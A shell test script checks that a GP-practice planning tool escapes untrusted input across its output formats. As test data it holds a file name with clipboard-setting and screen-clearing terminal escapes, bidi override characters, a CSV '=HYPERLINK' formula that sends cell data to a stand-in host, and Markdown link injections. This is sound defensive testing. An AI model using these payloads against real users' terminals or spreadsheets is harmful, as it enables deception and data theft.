# One output filter: whatever came from outside (file names, names in the
# data, notes, YAML) reaches the terminal or a report with controls shown
# as \xHH and bidi or invisible characters as <U+XXXX>, in every format;
# CSV cells that a spreadsheet would run as a formula are neutralised
# unless --raw.
. "$(dirname "$0")/lib.sh"

imp=$top/tests/data/import
st=$tmp/st
# Nothing a terminal would act on, valid UTF-8, and no bidi or invisible
# character (U+200B-F, U+2028/9, U+202A-E, U+2066-9, U+FEFF).
clean() {
    perl -0777 -ne 'utf8::decode($_) or exit 1;
        exit 1 if /[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\x{200b}-\x{200f}\x{2028}\x{2029}\x{202a}-\x{202e}\x{2066}-\x{2069}\x{feff}]/' "$@"
}
# check_clean "what" command...: runs it; stdout and stderr are clean.
check_clean() {
    what=$1
    shift
    "$@" >"$tmp/out" 2>"$tmp/err"
    if clean "$tmp/out" && clean "$tmp/err"; then
        pass "$what"
    else
        fail "$what: $(cat -v "$tmp/out" "$tmp/err" | head -c 300)"
    fi
}

# A file name that clears the screen and sets the clipboard.
evil=$(printf 'list\033]52;c;aGk=\a\033[2J.csv')
mkdir -p "$tmp/in"
cp "$imp/gp-reg-pat-prac-all-2026-04-coventry-warwickshire.csv" "$tmp/in/$evil"
"$bin" --store "$st" import --quiet "$imp/epraccur-coventry-warwickshire-2026.csv" \
    "$imp/onspd-2023-11-practice-postcodes.csv"
check_clean "the import summary shows an escaping file name visibly" \
    "$bin" --store "$st" import "$tmp/in/$evil"
check_has "as \\xHH" "$(cat "$tmp/out")" 'list\x1B]52;c;aGk=\x07\x1B[2J.csv'
for f in table json md; do
    check_clean "scenario run --format $f shows the file name visibly" \
        "$bin" --store "$st" scenario run --close M84001 --format "$f"
done
# (as markdown text: "list\x1B]52" once rendered)
check_has "the md data sources name it visibly" "$(cat "$tmp/out")" 'list\\x1B\]52'
check_clean "an error naming the file shows it visibly" \
    "$bin" --store "$st" import "$tmp/in/$evil.missing"

# Names with a right-to-left override, a zero-width space and a line
# separator: kept (they are not controls), shown visibly everywhere.
rlo=$(printf '\342\200\256') zws=$(printf '\342\200\213') lsep=$(printf '\342\200\250')
sed "s/\"M84002\",\"POOL MEDICAL CENTRE\"/\"M84002\",\"POOL${rlo}ERTNEC${zws}X${lsep}Y\"/" \
    "$imp/epraccur-coventry-warwickshire-2026.csv" >"$tmp/in/epraccur-bidi.csv"
"$bin" --store "$st" import --quiet "$tmp/in/epraccur-bidi.csv"
for f in table csv json; do
    check_clean "show --format $f shows bidi and invisible characters visibly" \
        "$bin" --store "$st" show M84002 --format "$f"
done
check_has "as <U+202E>" "$(cat "$tmp/out")" 'POOL<U+202E>ERTNEC<U+200B>X<U+2028>Y'
for f in table csv json; do
    check_clean "search --format $f shows them visibly" \
        "$bin" --store "$st" search pool --format "$f"
done
check_has "search finds the name by its visible text" \
    "$("$bin" --store "$st" search 'ertnec<u+200b>x' --format csv)" M84002
check_clean "near shows them visibly" "$bin" --store "$st" near M84001 --km 50

# Notes: a bidi override, and a spreadsheet formula.
"$bin" --store "$st" note M84001 "paid ${rlo}0001 GBP"
"$bin" --store "$st" note M84001 '=HYPERLINK("http://x.invalid/?"&A1,"click")'
"$bin" --store "$st" note M84001 '@SUM(1+1)'
for f in table csv json; do
    check_clean "history --format $f shows the note visibly" \
        "$bin" --store "$st" history M84001 --format "$f"
done
# JSON strings: quotes and backslashes escaped, runs of plain text kept whole.
"$bin" --store "$st" note M84001 'C:\lists\"final" \\ "v2" end'
check_eq "a note with quotes and backslashes reads back the same from JSON" \
    "$("$bin" --store "$st" show M84001 --format json |
        jq -r '.notes[] | select(.text | startswith("C:")) | .text')" \
    'C:\lists\"final" \\ "v2" end'
csv=$("$bin" --store "$st" history M84001 --format csv)
check_has "a formula in a CSV cell is neutralised" "$csv" "\"'=HYPERLINK("
check_has "an @ formula too" "$csv" "'@SUM(1+1)"
raw=$("$bin" --store "$st" --raw history M84001 --format csv)
check_has "--raw leaves it verbatim" "$raw" '"=HYPERLINK('
"$bin" --store "$st" export "$tmp/exp"
check_has "export neutralises formulas" "$(cat "$tmp/exp/notes.csv")" "\"'=HYPERLINK("
check_clean "and shows bidi characters visibly" cat "$tmp/exp/notes.csv"
check_eq "a negative number is left alone in CSV" \
    "$("$bin" --store "$st" scenario run --close M84001 --format csv | grep -c "'-")" 0

# YAML: a scenario description with a bidi override and a line separator
# (names are plain ASCII by rule; a bad one is quoted in the error).
cat >"$tmp/c.yaml" <<YAML
scenarios:
  - name: ends
    description: "Abbey ${rlo}sesolc${lsep}now"
    close: [M84001]
YAML
check_clean "config show shows YAML text visibly" "$bin" --config "$tmp/c.yaml" config show
check_clean "scenario list shows it visibly" "$bin" --config "$tmp/c.yaml" scenario list
check_has "as <U+202E>" "$(cat "$tmp/out")" 'Abbey <U+202E>sesolc<U+2028>now'
for f in md table json csv; do
    check_clean "scenario run --format $f shows the YAML text visibly" \
        "$bin" --store "$st" --config "$tmp/c.yaml" scenario run ends --format $f
done
printf 'scenarios:\n  - name: "ends%sdne"\n    close: [M84001]\n' "$rlo" >"$tmp/bad.yaml"
check_clean "a bad name in an error is shown visibly" "$bin" --config "$tmp/bad.yaml" config check
check_has "as <U+202E>" "$(cat "$tmp/err")" 'ends<U+202E>dne'

# Markdown: a name written as a link, an image or HTML stays text in the
# board paper (pandoc would make a link of it in the Word file).
md_name='EVIL [pay here](http://e.vil) <b>bold</b> ![](http://e.vil/t.png) <http://e.vil>'
awk -v n="$md_name" -F'","' 'BEGIN { OFS = "\",\"" } $1 == "\"M84001" || $1 == "\"M84002" { $2 = n } { print }' \
    "$imp/epraccur-coventry-warwickshire-2026.csv" >"$tmp/in/epraccur-md.csv"
"$bin" --store "$st" import --quiet "$tmp/in/epraccur-md.csv"
paper=$("$bin" --store "$st" scenario run --close M84001 --format md)
check_has "the closing practice's name is in the paper" "$paper" 'EVIL \[pay here\](http://e.vil)'
check_eq "no link, image, HTML tag or autolink is left live" \
    "$(printf '%s\n' "$paper" | grep -E '(^|[^\\])(\[pay|<b>|\[\]|<http)' | head -3)" ""

# The scenario's description (a shared config's, anyone on the team may
# write it) stays text in the paper too.
cat >"$tmp/d.yaml" <<YAML
scenarios:
  - name: ends
    description: "Read $md_name first"
    close: [M84001]
YAML
paper=$("$bin" --store "$st" --config "$tmp/d.yaml" scenario run ends --format md)
check_has "the description is in the paper" "$paper" 'Read EVIL \[pay here\](http://e.vil)'
check_eq "no link, image or HTML is left live in the description" \
    "$(printf '%s\n' "$paper" | grep '^Read ' | grep -E '(^|[^\\])(\[pay|<b>|\[\]|<http)')" ""
